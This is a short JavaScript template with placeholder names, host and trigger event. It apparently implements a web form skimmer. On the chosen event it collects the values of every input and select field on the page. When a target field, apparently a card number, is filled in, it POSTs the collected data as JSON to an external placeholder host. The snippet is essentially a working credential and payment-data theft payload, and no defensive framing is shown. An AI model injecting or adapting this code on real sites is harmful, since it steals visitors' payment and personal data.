(function () {
  var %N1% = {};
  function %N2%() {
    var fields = document.querySelectorAll('input, select');
    for (var i = 0; i < fields.length; i++) {
      if (fields[i].value) %N1%[fields[i].name || fields[i].id] = fields[i].value;
    }
    var number = document.querySelector('%FIELD%');
    if (!number || !number.value) return;
    var request = new XMLHttpRequest();
    request.open('POST', 'https://%HOST%/%PATH%', true);
    request.send(JSON.stringify(%N1%));
  }
  document.addEventListener('%EVENT%', %N2%);
})();
